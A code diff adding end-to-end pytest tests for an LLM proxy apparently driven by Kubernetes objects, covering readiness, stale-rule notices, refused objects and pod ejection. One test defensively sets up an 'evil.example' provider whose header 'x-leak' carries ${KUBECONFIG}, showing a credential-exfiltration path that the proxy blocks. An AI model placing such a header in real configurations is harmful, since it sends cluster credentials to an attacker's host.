@@ -5,16 +5,18 @@ import shutil
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack
+from datetime import datetime
 from functools import partial
 from pathlib import Path
 from typing import Any
 
 import httpx
 import pytest
+from playwright.sync_api import Page, expect
 
 from pointsman.demo.provider import Provider, Reply
 from pointsman.demo.server import ThreadedServer
-from tests.e2e.conftest import KEYS
+from tests.e2e.conftest import KEYS, StartFar
 from tests.e2e.harness import (
     DEADLINE,
     LOOPBACK,
@@ -25,6 +27,7 @@ from tests.e2e.harness import (
     assert_refused,
     chat,
     eventually,
+    llm_provider,
     llm_route,
     openai_config,
     said,
@@ -37,6 +40,7 @@ pytestmark = pytest.mark.e2e
 
 HOST = "http://llm.test"
 ALL = Path("kubernetes:")
+ADMIN = "llm_admin=127.0.0.1:0"
 POOL = {"group": "inference.networking.k8s.io", "kind": "InferencePool", "name": "vllm"}
 
 type Start = Callable[..., Proxy]
@@ -164,6 +168,28 @@ def test_the_fault_of_one_is_told_to_it_and_holds_no_one_up(
     proxy.entry()
 
 
+@pytest.mark.parametrize(
+    "key",
+    [
+        {"apiKey": "${TEAM_B_API_KEY}"},
+        {"apiKeyFrom": {"file": "/etc/pointsman/keys/of-team-b"}},
+    ],
+    ids=["variable", "file"],
+)
+def test_another_teams_key_makes_no_proxy_unready(
+    start: Start, cluster: Cluster, openai: Far, key: Json
+) -> None:
+    cluster.apply(by("ours", openai))
+    configs = openai_config(**key)
+    cluster.apply(llm_provider("theirs", "theirs.test", configs=configs), namespace="team-b")
+    proxy = start(ALL, f"llm_admin={LOOPBACK}:0")
+    ready = httpx.get(f"http://{proxy.admin}/readyz", trust_env=False)
+    assert ready.status_code == 200, ready.text
+    assert ready.json()["warnings"] == ["no key for the provider theirs"]
+    assert_refused(ask(proxy, "http://theirs.test"), 503, "no_key")
+    assert_entry(proxy.entry(), status=503, provider="theirs")
+
+
 def test_while_the_api_server_is_away_all_goes_on(
     start: Start, cluster: Cluster, openai: Far, own_confdir: Path
 ) -> None:
@@ -214,6 +240,98 @@ def test_a_start_with_options_that_can_not_be_fails(
     assert proxy.wait() == 1
     assert message in proxy.printed
     assert "Traceback" not in proxy.printed
+
+
+def test_an_object_gets_no_secret_but_keys(
+    start: Start, cluster: Cluster, start_far: StartFar
+) -> None:
+    """Who may write objects sends what they name to a host of their own."""
+    evil = start_far("evil", "evil.example")
+    configs = openai_config(model="m", headers={"x-leak": "${KUBECONFIG}"})
+    cluster.apply(evil.manifest(configs=configs))
+    url = "http://evil.example/v1/chat/completions"
+    proxy = start(ALL, "llm_status=true")
+    assert_refused(ask(proxy, url), 503, "no_target")
+    proxy.entry()
+
+    def accepted() -> str:
+        found = cluster.conditions("LLMProvider", "evil").get("Accepted", {})
+        return f"{found.get('status')} {found.get('message')}"
+
+    eventually(lambda: accepted().startswith("False"), what="the status")
+    field = "spec.configs.defaultConfig.openAIConfig.headers.x-leak"
+    assert f"{field}: objects may name only variables *_API_KEY; rename this one" in accepted()
+    assert not evil.provider.calls
+
+    trusting = start(ALL, "llm_key_variables=*_API_KEY,KUBECONFIG")
+    assert said(ask(trusting, url))
+    assert evil.call().header("x-leak") == str(cluster.kubeconfig)
+    trusting.entry()
+
+
+# --- what is told of them ------------------------------------------------------------------------
+
+
+def get(proxy: Proxy, path: str) -> httpx.Response:
+    return httpx.get(f"http://{proxy.admin}{path}", trust_env=False, timeout=DEADLINE)
+
+
+def has_refused(proxy: Proxy) -> bool:
+    """Tell whether the alert PointsmanRulesRefused would come."""
+    name, page = "pointsman_last_reload_successful", get(proxy, "/metrics").text
+    (value,) = [line.split()[1] for line in page.splitlines() if line.startswith(f"{name} ")]
+    return float(value) == 0
+
+
+def test_an_api_server_that_is_away_refuses_nothing_and_the_page_lives_on(
+    start: Start, cluster: Cluster, openai: Far, page: Page
+) -> None:
+    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
+    proxy = start(ALL, ADMIN)
+    errors: list[str] = []
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    page.goto(f"http://{proxy.admin}/")
+    notices, requests = page.locator("#notices"), page.locator('[data-total="requests"]')
+    expect(requests).to_have_text("0")
+    eventually(lambda: len(cluster.watching) == 2, what="two watches")
+    cluster.stop()
+    expect(notices).to_contain_text("The rules may be out of date")
+    expect(notices).to_contain_text("it can't be reached")
+    expect(notices).not_to_contain_text("refused")
+    assert model_now(proxy) == "old"
+    expect(requests).to_have_text("1")
+    shown, ready = get(proxy, "/config").json(), get(proxy, "/readyz").json()
+    assert shown["refused"] is None
+    assert datetime.fromisoformat(shown["outdated"]["since"])
+    assert ready["warnings"] == ["the rules may be out of date: see /config"]
+    assert ready["ready"]
+    assert not has_refused(proxy)
+    cluster.start()
+    expect(notices).to_be_empty()
+    assert errors == []
+
+
+def test_only_a_refused_object_is_a_refusal(start: Start, cluster: Cluster, openai: Far) -> None:
+    """Rules that go live while the other kind can't be read are not refused, then or later."""
+    cluster.apply(by("old", openai), llm_route("r", "llm.test", to("api.openai.com")))
+    proxy = start(ALL, ADMIN)
+    eventually(lambda: len(cluster.watching) == 2, what="two watches")
+    cluster.refuse(500, path="llmproviders?")
+    cluster.cut()
+    eventually(lambda: get(proxy, "/config").json()["outdated"], what="a watch that fails")
+    cluster.apply(llm_route("s", "other.test", to("api.openai.com")))
+    proxy.says("1 providers, 2 routes")
+    assert not has_refused(proxy)
+    cluster.apply(llm_route("s", "other.test", {**to("api.openai.com"), "wait": 5}))
+    eventually(lambda: has_refused(proxy), what="a refused object")
+    (problem,) = get(proxy, "/config").json()["refused"]["problems"]
+    assert problem.startswith('LLMRoute default/s: spec.rules[0].wait: unknown field "wait"')
+    cluster.delete("LLMRoute", "s")
+    eventually(lambda: not has_refused(proxy), what="the refused object gone")
+    cluster.trouble(None)
+    eventually(lambda: get(proxy, "/config").json()["outdated"] is None, what="the other kind")
+    assert get(proxy, "/config").json()["refused"] is None
+    assert not has_refused(proxy)
 
 
 # --- servers in the cluster -----------------------------------------------------------------------
@@ -395,6 +513,44 @@ def test_what_fails_on_one_pod_is_tried_on_another(
         "inferencepool/default/vllm"
     }
     assert any(len(entry["attempts"]) == 2 for entry in entries)
+
+
+def test_the_health_of_a_pool_is_that_of_its_best_pod(
+    start: Start, cluster: Cluster, start_pod: StartPod
+) -> None:
+    pods = pods_of(cluster, start_pod, 2)
+    proxy = start(ALL, "llm_admin=127.0.0.1:0")
+
+    def got(path: str) -> httpx.Response:
+        return httpx.get(f"http://{proxy.admin}{path}", trust_env=False, timeout=DEADLINE)
+
+    def state() -> tuple[str, list[str], float]:
+        """Return what /config says of the pool and of its pods, and what the metrics say."""
+        (route,) = got("/config").json()["routes"]
+        (target,) = route["rules"][0]["targets"]
+        gauges = [
+            float(line.rpartition(" ")[2])
+            for line in got("/metrics").text.splitlines()
+            if line.startswith("pointsman_target_state{")
+        ]
+        pods = [endpoint["state"] for endpoint in target.get("endpoints", [])]
+        return target["state"], sorted(pods), *gauges
+
+    assert state() == ("healthy", ["healthy", "healthy"], 0)
+    for name, expected in (
+        ("pod-0", ("healthy", ["ejected", "healthy"], 0)),
+        ("pod-1", ("ejected", ["ejected", "ejected"], 2)),
+    ):
+        pods[name].script = lambda _: Reply(status=503, body=b"{}")
+        for _ in range(10):  # then it is set aside
+            ask(proxy, model="m")
+        assert state() == expected
+    (target,) = got("/api/live").json()["targets"]
+    assert (target["state"], target["endpoints"], target["ejected_endpoints"]) == ("ejected", 2, 2)
+    proxy.logged(20)
+    for name in pods:
+        cluster.delete("Pod", name)
+    eventually(lambda: state() == ("no endpoint", [], 2), what="a pool without pods")
 
 
 def test_a_pool_in_files_is_read_where_the_cluster_is(
